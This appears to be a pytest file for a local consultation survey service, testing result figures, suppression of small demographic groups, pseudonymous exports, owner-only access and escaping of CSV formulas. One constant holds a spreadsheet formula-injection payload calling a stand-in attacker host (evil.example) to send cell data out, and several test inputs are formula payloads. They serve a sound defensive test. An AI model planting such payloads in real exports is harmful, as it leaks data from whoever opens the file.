"""Results and exports: figures, small-cell suppression everywhere, formula-safe CSV, access."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Awaitable, Callable
from typing import Any
from uuid import UUID

import asyncpg
import httpx
import pytest

from localrights.csvsafe import FORMULA_STARTS
from localrights.db import asyncpg_dsn
from localrights_consultation.config import Settings

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # the conftest's first senior

API = "/api/v1/consultations"
Answers = Callable[..., dict[str, Any]]
GroupAnswers = Callable[[str, dict[str, int]], Awaitable[None]]


@pytest.fixture
async def surveyed(make_consultation: Any, answer_groups: GroupAnswers) -> dict[str, Any]:
    """An open consultation with 61 youth, 60 adult and 4 senior respondents."""
    c = await make_consultation()
    await answer_groups(c["id"], {"youth": 61, "adult": 60, "senior": 4})
    return c


class TestResults:
    async def test_each_question_type_is_counted_and_small_groups_suppressed(
        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
    ) -> None:
        results = (await client.get(f"{API}/{surveyed['id']}/results", headers=officer)).json()
        assert results["response_count"] == 125 and results["by"] is None
        figures = {q["question_id"]: q for q in results["overall"]["questions"]}
        housing = {o["id"]: o for o in figures["housing"]["options"]}
        assert housing["no"] == {"id": "no", "count": 125, "share": 1.0}
        services = {o["id"]: o["count"] for o in figures["services"]["options"]}
        assert services == {"clinic": 125, "library": 0, "bus": 125}
        assert figures["safety"]["responses"] == 125
        assert 1 <= figures["safety"]["mean"] <= 5
        scores = {o["id"]: o["score"] for o in figures["priorities"]["options"]}
        assert scores == {"water": 375, "schools": 250, "roads": 125}
        projects = {p["id"]: p["total"] for p in figures["budget"]["projects"]}
        assert projects == {"park": 400 * 125, "lights": 500 * 125}
        assert figures["comment"]["responses"] == 125 and "options" not in figures["comment"]
        age = {o["id"]: o["count"] for o in figures["age"]["options"]}
        assert age == {"youth": 61, "suppressed": 64}  # its own distribution is suppressed too

    async def test_a_group_of_four_never_appears_even_in_a_large_total(
        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
    ) -> None:
        response = await client.get(
            f"{API}/{surveyed['id']}/results", params={"by": "age"}, headers=officer
        )
        results = response.json()
        assert [g["group"] for g in results["groups"]] == ["youth", "suppressed"]
        assert "senior" not in response.text and "adult" not in response.text
        merged = results["groups"][1]
        assert merged["responses"] == 64  # the 4 seniors with the next-smallest group
        assert results["overall"]["responses"] - results["groups"][0]["responses"] == 64

    async def test_breakdown_only_by_a_demographic_question(
        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
    ) -> None:
        response = await client.get(
            f"{API}/{surveyed['id']}/results", params={"by": "housing"}, headers=officer
        )
        assert response.status_code == 422
        assert "'housing' is not a demographic question" in response.json()["detail"]

    async def test_public_once_published_owner_live(
        self,
        client: httpx.AsyncClient,
        surveyed: dict[str, Any],
        officer: dict[str, str],
        other_officer: dict[str, str],
    ) -> None:
        url = f"{API}/{surveyed['id']}/results"
        assert (await client.get(url)).status_code == 403
        assert (await client.get(url, headers=other_officer)).status_code == 403
        assert (await client.get(url, headers=officer)).status_code == 200
        await client.post(f"{API}/{surveyed['id']}/close", headers=officer)
        await client.post(f"{API}/{surveyed['id']}/publish", headers=officer)
        public = await client.get(url, params={"by": "age"})
        assert public.status_code == 200 and "senior" not in public.text


# Stored in one statement: the submission path is tested above, here only the size matters.
BULK = """
INSERT INTO responses (id, consultation_id, answers, language)
SELECT gen_random_uuid(), $1, CAST($2 AS jsonb) || jsonb_build_object('age',
       CASE WHEN g <= 4 THEN 'senior' WHEN g <= 1004 THEN 'adult' ELSE 'youth' END), 'en'
FROM generate_series(1, 2504) g
"""


class TestLargeTotal:
    async def test_a_group_of_four_stays_hidden_among_2500_everywhere(
        self,
        client: httpx.AsyncClient,
        settings: Settings,
        make_consultation: Any,
        answers: Answers,
        officer: dict[str, str],
    ) -> None:
        c = await make_consultation()
        conn = await asyncpg.connect(asyncpg_dsn(settings.database_url))
        try:
            await conn.execute(BULK, UUID(c["id"]), json.dumps(answers(age=None)))
        finally:
            await conn.close()
        url = f"{API}/{c['id']}"
        response = await client.get(f"{url}/results", params={"by": "age"}, headers=officer)
        results = response.json()
        assert results["response_count"] == 2504
        groups = {g["group"]: g["responses"] for g in results["groups"]}
        assert groups == {"youth": 1500, "suppressed": 1004}  # with the next-smallest group
        assert "senior" not in response.text
        overall = await client.get(f"{url}/results", headers=officer)
        figures = {q["question_id"]: q for q in overall.json()["overall"]["questions"]}
        age = {o["id"]: o["count"] for o in figures["age"]["options"]}
        assert age == {"youth": 1500, "suppressed": 1004}
        assert "senior" not in overall.text
        for fmt in ("json", "csv"):
            for what in ("results", "responses"):
                export = await client.get(
                    f"{url}/export",
                    params={"format": fmt, "what": what, "by": "age"},
                    headers=officer,
                )
                assert export.status_code == 200, export.text
                assert "senior" not in export.text, (fmt, what)
                assert "1004" in export.text or what == "responses", (fmt, what)
        rows = list(csv.DictReader(io.StringIO(export.text)))
        assert len(rows) == 2504
        assert sum(row["age"] == "suppressed" for row in rows) == 1004


class TestExports:
    @pytest.mark.parametrize("fmt", ["csv", "json"])
    @pytest.mark.parametrize("what", ["results", "responses"])
    async def test_suppression_applies_to_every_export(
        self,
        client: httpx.AsyncClient,
        surveyed: dict[str, Any],
        officer: dict[str, str],
        fmt: str,
        what: str,
    ) -> None:
        response = await client.get(
            f"{API}/{surveyed['id']}/export",
            params={"format": fmt, "what": what, "by": "age"},
            headers=officer,
        )
        assert response.status_code == 200, response.text
        assert "senior" not in response.text and "adult" not in response.text
        if what == "responses":
            rows = (
                list(csv.DictReader(io.StringIO(response.text)))
                if fmt == "csv"
                else [{**r, **r["answers"]} for r in json.loads(response.text)]
            )
            assert len(rows) == 125
            ages = [row["age"] for row in rows]
            assert ages.count("suppressed") == 64 and ages.count("youth") == 61

    async def test_responses_are_pseudonymous(
        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
    ) -> None:
        response = await client.get(
            f"{API}/{surveyed['id']}/export",
            params={"format": "json", "what": "responses"},
            headers=officer,
        )
        rows = json.loads(response.text)
        assert set(rows[0]) == {"response_id", "submitted_on", "language", "answers"}
        assert "youth-0" not in response.text  # no client key
        assert len(rows[0]["submitted_on"]) == 10  # the day, not the moment

    async def test_csv_cells_cannot_run_as_formulas(
        self, client: httpx.AsyncClient, surveyed: dict[str, Any], officer: dict[str, str]
    ) -> None:
        response = await client.get(
            f"{API}/{surveyed['id']}/export",
            params={"format": "csv", "what": "responses"},
            headers=officer,
        )
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert "'" + INJECTION in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]

    @pytest.mark.parametrize("comment", ["\n=1+1", "\r@SUM(A1)", "\uff1dHYPERLINK(A1)"])
    async def test_a_leading_line_break_or_full_width_sign_is_escaped_too(
        self,
        client: httpx.AsyncClient,
        surveyed: dict[str, Any],
        officer: dict[str, str],
        answers: Answers,
        resident: Callable[..., dict[str, str]],
        comment: str,
    ) -> None:
        sent = await client.post(
            f"{API}/{surveyed['id']}/responses",
            json={"answers": answers(age="youth", safety=2, comment=comment)},
            headers=resident("line-break"),
        )
        assert sent.status_code == 201, sent.text
        response = await client.get(
            f"{API}/{surveyed['id']}/export",
            params={"format": "csv", "what": "responses"},
            headers=officer,
        )
        comments = [row["comment"] for row in csv.DictReader(io.StringIO(response.text))]
        assert "'" + comment in comments

    async def test_only_the_owner_exports(
        self,
        client: httpx.AsyncClient,
        surveyed: dict[str, Any],
        officer: dict[str, str],
        other_officer: dict[str, str],
        resident: Callable[..., dict[str, str]],
    ) -> None:
        url = f"{API}/{surveyed['id']}/export"
        for what in ("results", "responses"):
            params = {"what": what}
            assert (await client.get(url, params=params, headers=other_officer)).status_code == 403
            assert (await client.get(url, params=params, headers=resident())).status_code == 401
        await client.post(f"{API}/{surveyed['id']}/close", headers=officer)
        await client.post(f"{API}/{surveyed['id']}/publish", headers=officer)
        published = await client.get(url, params={"what": "responses"}, headers=other_officer)
        assert published.status_code == 403  # raw responses stay the owner's, even then
